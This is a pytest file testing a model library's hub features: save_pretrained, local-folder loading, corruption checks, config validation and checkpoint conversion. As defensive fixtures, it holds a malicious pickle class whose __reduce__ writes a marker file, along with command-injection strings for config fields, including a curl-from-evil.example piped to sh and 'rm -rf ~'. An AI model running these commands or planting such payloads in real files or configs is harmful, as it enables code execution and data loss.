"""Hub folders without a server: save_pretrained, local-dir loading, verification, config checks, convert."""

from __future__ import annotations

import json
import pickle
from pathlib import Path

import pytest
import safetensors.torch
import timm
import torch

import mixerzoo
from mixerzoo import hub
from mixerzoo.hub import _cli
from mixerzoo.hub.convert import unwrap_state_dict

pytestmark = pytest.mark.filterwarnings("ignore::RuntimeWarning")  # unrelated broken-plugin warnings


def _model(name: str = "test_vit", **kw):
    torch.manual_seed(0)
    return mixerzoo.create_model(name, num_classes=10, **kw).eval()


def _x(model, n: int = 2) -> torch.Tensor:
    return torch.randn(n, *model.pretrained_cfg["input_size"], generator=torch.Generator().manual_seed(1))


def _load(name: str, **kw):
    """What mixerzoo.create_model does for hub names: checks, then timm."""
    return timm.create_model(name, pretrained=True, **hub.prepare_kwargs(name, pretrained=True, **kw)).eval()


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    model = _model()
    d = hub.save_pretrained(
        model,
        tmp_path_factory.mktemp("vit") / "out",
        model_card={"description": "A tiny test model.", "datasets": ["cifar10"]},
        metrics={"top1": 12.5, "top5": 50.0},
        recipe={"epochs": 2, "lr": 1e-3, "dataset": "cifar10"},
    )
    return model, d


def test_save_pretrained_writes_timm_schema_and_requires(saved):
    model, d = saved
    assert sorted(p.name for p in d.iterdir()) == ["README.md", "config.json", "model.safetensors"]  # no temp files
    cfg = json.loads((d / "config.json").read_text())
    assert cfg["architecture"] == "mz_test_vit"
    assert cfg["num_classes"] == 10 and cfg["num_features"] == model.num_features
    assert "num_classes" not in cfg["model_args"]  # top-level only: transformers passes it itself
    assert cfg["pretrained_cfg"]["input_size"] == [3, 32, 32]
    assert cfg["requires"] == {"mixers": {"attention": "mixerzoo"}}
    sd = safetensors.torch.load_file(str(d / "model.safetensors"))
    ref = model.state_dict()
    assert sd.keys() == ref.keys() and all(torch.equal(sd[k], ref[k]) for k in ref)


def test_model_card_content(saved):
    model, d = saved
    text = (d / "README.md").read_text()
    front = text.split("---")[1]
    assert "library_name: timm" in front and "- mixerzoo" in front and "license: apache-2.0" in front
    assert "- cifar10" in front and "- top1" in front
    n = sum(p.numel() for p in model.parameters())
    assert f"**Params (M):** {n / 1e6:.2f}" in text
    assert "**GMACs:** 0.0" in text and "n/a" not in text  # counted, and tiny
    usage = text[text.index("```python") :]
    assert usage.index("import mixerzoo") < usage.index("create_model")
    assert "| top1 | 12.5 |" in text and "epochs: 2" in text


def test_gmacs_match_flop_counter():
    model = _model()
    from torch.utils.flop_counter import FlopCounterMode

    with FlopCounterMode(display=False) as fc, torch.no_grad():
        model(torch.zeros(1, 3, 32, 32))
    assert hub.card.count_gmacs(model, (3, 32, 32)) == pytest.approx(fc.get_total_flops() / 2e9)


def test_plots_are_copied_and_linked(tmp_path):
    png = tmp_path / "loss.png"
    png.write_bytes(b"\x89PNG fake")
    d = hub.save_pretrained(_model(), tmp_path / "out", plots={"Training loss": png})
    assert (d / "plots" / "loss.png").read_bytes() == png.read_bytes()
    assert "![Training loss](plots/loss.png)" in (d / "README.md").read_text()


def test_local_dir_round_trip(saved):
    model, d = saved
    x = _x(model)
    with torch.no_grad():
        ref = model(x)
        for name in (f"local-dir:{d}",):
            assert torch.equal(_load(name)(x), ref)
            assert torch.equal(mixerzoo.create_model(name, pretrained=True).eval()(x), ref)
        # timm alone, once mixerzoo is imported
        assert torch.equal(timm.create_model(f"local-dir:{d}", pretrained=True).eval()(x), ref)


def test_save_again_overwrites_atomically(tmp_path):
    m1, m2 = _model(), _model("test_poolformer")
    d = hub.save_pretrained(m1, tmp_path / "out")
    hub.save_pretrained(m2, d)
    assert json.loads((d / "config.json").read_text())["architecture"] == "mz_test_poolformer"
    assert not [p for p in d.iterdir() if p.name.startswith(".")]


def _copy_folder(src: Path, dst: Path) -> Path:
    dst.mkdir()
    for p in src.iterdir():
        (dst / p.name).write_bytes(p.read_bytes())
    return dst


def test_truncated_and_corrupted_weights_are_refused(saved, tmp_path):
    _, d = saved
    folder = _copy_folder(d, tmp_path / "trunc")
    w = folder / "model.safetensors"
    data = w.read_bytes()
    w.write_bytes(data[: len(data) - 1000])
    with pytest.raises(hub.CorruptCheckpointError, match=r"model\.safetensors is corrupted .*truncated"):
        _load(f"local-dir:{folder}")
    w.write_bytes(data[:5])
    with pytest.raises(hub.CorruptCheckpointError, match="too short"):
        hub.verify_safetensors(w)
    # a flipped byte is only caught by a hash: the cache names blobs by sha256
    blobs = tmp_path / "blobs"
    blobs.mkdir()
    import hashlib

    blob = blobs / hashlib.sha256(data).hexdigest()
    blob.write_bytes(data[:-10] + bytes(b ^ 0xFF for b in data[-10:]))
    with pytest.raises(hub.CorruptCheckpointError, match=r"sha256 .* does not match"):
        hub.verify_safetensors(blob, expected=hub.download.expected_blob_hash(blob))


def test_pickle_only_folder_is_refused_and_never_unpickled(saved, tmp_path):
    _, d = saved
    folder = tmp_path / "pickled"
    folder.mkdir()
    (folder / "config.json").write_bytes((d / "config.json").read_bytes())
    marker = tmp_path / "pwned"

    class Evil:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    (folder / "pytorch_model.bin").write_bytes(pickle.dumps({"x": Evil()}))
    with pytest.raises(hub.UnsafeCheckpointError, match=r"pytorch_model\.bin.*convert"):
        _load(f"local-dir:{folder}")
    assert not marker.exists()


def _cfg(saved, **changes):
    cfg = json.loads((saved[1] / "config.json").read_text())
    for k, v in changes.items():
        cfg[k] = v
    return cfg


def test_unknown_architecture_is_refused(saved):
    with pytest.raises(hub.UnknownArchitectureError, match=r"mz_no_such_net.*pip install -U mixerzoo"):
        hub.check_config(_cfg(saved, architecture="mz_no_such_net"))
    with pytest.raises(hub.UnknownArchitectureError, match="install and import the package"):
        hub.check_config(_cfg(saved, architecture="acme_net"))
    with pytest.raises(hub.InvalidConfigError, match="no 'architecture'"):
        hub.check_config({"num_classes": 3})


def test_missing_mixer_plugin_gives_install_hint(saved):
    cfg = _cfg(saved, requires={"mixers": {"attention": "mixerzoo", "acme.swin_window": "acme-mixers>=0.3"}})
    with pytest.raises(hub.MissingMixerError, match=r"acme\.swin_window.*pip install 'acme-mixers>=0\.3'"):
        hub.check_config(cfg)


def test_requires_is_checked_before_architecture(saved):
    cfg = _cfg(saved, architecture="mz_no_such_net", requires={"mixers": {"acme.x": "acme"}})
    with pytest.raises(hub.MissingMixerError):
        hub.check_config(cfg)


def test_model_args_validated_against_constructor(saved, tmp_path):
    cfg = _cfg(saved)
    cfg["model_args"] = {**cfg["model_args"], "evil_kwarg": 1}
    with pytest.raises(hub.InvalidConfigError, match=r"\['evil_kwarg'\].*VisionTransformer"):
        hub.check_config(cfg)
    # the folder is refused before anything is built or read
    folder = _copy_folder(saved[1], tmp_path / "badargs")
    (folder / "config.json").write_text(json.dumps(cfg))
    (folder / "model.safetensors").write_bytes(b"never read")
    with pytest.raises(hub.InvalidConfigError, match="evil_kwarg"):
        _load(f"local-dir:{folder}")
    # the caller's own kwargs override stored ones and are left to the constructor
    arch, args = hub.check_config(_cfg(saved), overrides={"num_classes": 3})
    assert arch == "mz_test_vit" and "num_classes" not in args


def test_hub_config_cannot_redirect_weights_to_pickles(saved):
    cfg = _cfg(saved)
    cfg["pretrained_cfg"]["hf_hub_filename"] = "pytorch_model.bin"
    with pytest.raises(hub.UnsafeCheckpointError, match="hf_hub_filename"):
        hub.check_config(cfg)
    cfg["pretrained_cfg"].pop("hf_hub_filename")
    cfg["pretrained_cfg"]["custom_load"] = "hf"
    with pytest.raises(hub.InvalidConfigError, match="custom_load"):
        hub.check_config(cfg)


def test_save_pretrained_rejects_non_json_model_args(tmp_path):
    model = _model()
    model._model_args = {**model._model_args, "act_layer": torch.nn.GELU}
    with pytest.raises(ValueError, match="act_layer"):
        hub.save_pretrained(model, tmp_path / "out")
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------------------------------------ convert


def _official(model, path: Path, wrapper: str = "state_dict") -> Path:
    sd = {"module." + k: v.clone() for k, v in model.state_dict().items()}
    torch.save({wrapper: sd, "epoch": 300, "optimizer": {"lr": 0.1}}, path)
    return path


def test_convert_official_format_round_trip(tmp_path, capsys):
    model = _model("test_poolformer")
    ckpt = _official(model, tmp_path / "official.pth")
    out = tmp_path / "converted"
    assert _cli.main(["convert", "test_poolformer", str(ckpt), str(out), "--num-classes", "10"]) == 0
    printed = capsys.readouterr().out
    n = sum(p.numel() for p in model.parameters())
    assert f"params: {n:,}" in printed and "sha256" in printed
    x = _x(model)
    with torch.no_grad():
        assert torch.equal(_load(f"local-dir:{out}")(x), model(x))
    res = hub.convert_checkpoint("mz_test_poolformer", ckpt, tmp_path / "again", model_kwargs={"num_classes": 10})
    assert res.golden["sha256"] in printed and res.params == n and res.loaded_keys == res.source_keys


def test_convert_reports_missing_and_unconsumed_keys(tmp_path):
    model = _model("test_poolformer")
    sd = {"module." + k: v for k, v in model.state_dict().items()}
    sd.pop("module.head.fc.bias")
    sd["module.extra.weight"] = torch.zeros(3)
    torch.save({"model": sd}, tmp_path / "bad.pth")
    kw = {"num_classes": 10}
    # the family filter itself rejects keys that match nothing
    with pytest.raises(hub.ConvertError, match=r"extra\.weight"):
        hub.convert_checkpoint("test_poolformer", tmp_path / "bad.pth", tmp_path / "o", model_kwargs=kw)
    with pytest.raises(hub.ConvertError, match=r"(?s)1 missing from the checkpoint: head\.fc\.bias.*1 unconsumed"):
        hub.convert_checkpoint(
            "test_poolformer",
            tmp_path / "bad.pth",
            tmp_path / "o",
            checkpoint_filter=lambda s, m: s,
            model_kwargs={"num_classes": 10},
        )
    assert not (tmp_path / "o").exists()


def test_convert_refuses_code_in_pickles(tmp_path):
    marker = tmp_path / "pwned"

    class Evil:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    (tmp_path / "evil.pth").write_bytes(pickle.dumps({"state_dict": {"w": Evil()}}, protocol=2))
    with pytest.raises(hub.ConvertError, match="weights_only=True"):
        hub.convert_checkpoint("test_poolformer", tmp_path / "evil.pth", tmp_path / "o")
    assert not marker.exists()


def test_unwrap_prefers_plain_weights_unless_ema():
    a, b = {"w": torch.zeros(1)}, {"w": torch.ones(1)}
    assert unwrap_state_dict({"state_dict": a, "state_dict_ema": b})["w"].item() == 0
    assert unwrap_state_dict({"state_dict": a, "state_dict_ema": b}, ema=True)["w"].item() == 1
    assert unwrap_state_dict({"model": {"module.w": torch.ones(1)}}).keys() == {"w"}


def test_guard_pretrained_checks_hub_cfgs_that_timm_resolved(saved, tmp_path):
    folder = _copy_folder(saved[1], tmp_path / "needs_plugin")
    cfg = _cfg(saved, requires={"mixers": {"acme.swin": "acme-mixers"}})
    (folder / "config.json").write_text(json.dumps(cfg))
    # what timm hands a family builder for create_model("local-dir:<folder>")
    resolved = {"architecture": "mz_test_vit", "source": "local-dir", "file": str(folder)}
    with pytest.raises(hub.MissingMixerError, match="acme-mixers"):
        hub.guard_pretrained(resolved, pretrained=True)
    assert hub.guard_pretrained(timm.models.get_pretrained_cfg("mz_test_vit"), pretrained=True) is None
    assert hub.guard_pretrained("some_tag", pretrained=True) is None


def test_publish_refuses_pickles_and_incomplete_folders(saved, tmp_path):
    folder = _copy_folder(saved[1], tmp_path / "with_bin")
    (folder / "pytorch_model.bin").write_bytes(b"\x80\x02}q\x00.")
    with pytest.raises(hub.UnsafeCheckpointError, match=r"pytorch_model\.bin"):
        hub.push_to_hub(folder, "org/never")
    (folder / "pytorch_model.bin").unlink()
    (folder / "model.safetensors").unlink()
    with pytest.raises(FileNotFoundError, match=r"model\.safetensors"):
        hub.push_to_hub(folder, "org/never")
    with pytest.raises(ValueError, match="repo_id"):
        hub.push_to_hub(saved[1], "no-namespace")


def test_prepare_kwargs_is_a_no_op_without_pretrained_weights():
    kw = {"num_classes": 3, "force_download": True, "token": "x"}
    assert hub.prepare_kwargs("test_vit", pretrained=False, **kw) == {"num_classes": 3}


def test_save_pretrained_unwraps_compiled_and_ema_models(tmp_path):
    from timm.utils import ModelEmaV3

    model = _model()
    for i, wrapped in enumerate((torch.compile(model), ModelEmaV3(model))):
        d = hub.save_pretrained(wrapped, tmp_path / f"w{i}", model_card="# card\n")
        keys = set(safetensors.torch.load_file(str(d / "model.safetensors")))
        assert keys == set(model.state_dict())
        assert (d / "README.md").read_text() == "# card\n"


def test_folders_with_num_classes_in_model_args_still_load(saved, tmp_path):
    # folders written before num_classes left model_args (it broke transformers' TimmWrapper) load as before
    model, d = saved
    folder = _copy_folder(d, tmp_path / "old")
    cfg = _cfg(saved)
    cfg["model_args"]["num_classes"] = 10
    (folder / "config.json").write_text(json.dumps(cfg))
    x = _x(model)
    with torch.no_grad():
        assert torch.equal(_load(f"local-dir:{folder}")(x), model(x))
        assert torch.equal(timm.create_model(f"local-dir:{folder}", pretrained=True).eval()(x), model(x))


def _timm_training_checkpoint(model, path: Path, **extra) -> Path:
    """A checkpoint laid out like timm's train.py (CheckpointSaver._save) writes it."""
    import argparse

    opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.randn(2, *model.pretrained_cfg["input_size"])).sum().backward()
    opt.step()
    args = argparse.Namespace(model="mz_test_poolformer", lr=0.1, epochs=3, mean=(0.5, 0.5, 0.5), data_dir="/d")
    torch.save(
        {
            "epoch": 2,
            "arch": "mz_test_poolformer",
            "optimizer": opt.state_dict(),
            "version": 2,
            "args": args,
            "state_dict": model.state_dict(),
            "state_dict_ema": model.state_dict(),
            "metric": 12.5,
            "saver": {"checkpoint_files": [("checkpoint-1.pth.tar", 10.0)], "best_epoch": 1, "pending": (2, 12.5)},
            **extra,
        },
        path,
    )
    return path


def test_convert_reads_timm_training_checkpoints_with_argparse_namespace(tmp_path, capsys):
    model = _model("test_poolformer")
    ckpt = _timm_training_checkpoint(model, tmp_path / "checkpoint-2.pth.tar")
    out = tmp_path / "converted"
    rc = _cli.main(["convert", "test_poolformer", str(ckpt), str(out), "--num-classes", "10"])
    assert rc == 0, capsys.readouterr().err
    x = _x(model)
    with torch.no_grad():
        assert torch.equal(_load(f"local-dir:{out}")(x), model.eval()(x))


def test_convert_allow_list_does_not_let_other_globals_through(tmp_path, capsys):
    import types

    marker = tmp_path / "pwned"

    class Evil:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    model = _model("test_poolformer")
    ckpt = _timm_training_checkpoint(model, tmp_path / "evil.pth.tar", hook=Evil())
    with pytest.raises(hub.ConvertError, match=r"weights_only=True.*open"):
        hub.convert_checkpoint("test_poolformer", ckpt, tmp_path / "o", model_kwargs={"num_classes": 10})
    # a plain-data class that is not on the allow-list is refused too
    ckpt = _timm_training_checkpoint(model, tmp_path / "ns.pth.tar", extra=types.SimpleNamespace(a=1))
    assert _cli.main(["convert", "test_poolformer", str(ckpt), str(tmp_path / "o2"), "--num-classes", "10"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "mixerzoo convert: error:" in err and "SimpleNamespace" in err
    assert not marker.exists() and not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    "dist",
    [
        "x' && curl https://evil.example/x | sh && echo '",
        "x; rm -rf ~",
        "acme @ https://evil.example/acme.whl",
        "acme\n  - mixer 'fake' line",
        "-e git+https://evil.example/r",
        "",
    ],
)
def test_requires_distribution_must_be_a_pep508_requirement(saved, dist):
    cfg = _cfg(saved, requires={"mixers": {"acme.x": dist}})
    with pytest.raises(hub.InvalidConfigError, match=r"requires\.mixers\['acme\.x'\]=.*PEP 508") as info:
        hub.check_config(cfg)
    assert "\n" not in str(info.value) and "pip install" not in str(info.value)


def test_requires_hint_is_shell_quoted(saved):
    cfg = _cfg(saved, requires={"mixers": {"acme.x": 'acme-mixers[cuda]>=0.3; os_name == "posix"'}})
    with pytest.raises(hub.MissingMixerError) as info:
        hub.check_config(cfg)
    import shlex

    cmd = str(info.value).rsplit("pip install ", 1)[1]
    assert shlex.split(cmd) == ['acme-mixers[cuda]>=0.3; os_name == "posix"']  # one argument, nothing else
    with pytest.raises(hub.InvalidConfigError, match="not a mixer name"):
        hub.check_config(_cfg(saved, requires={"mixers": {"x'; sh": "acme"}}))
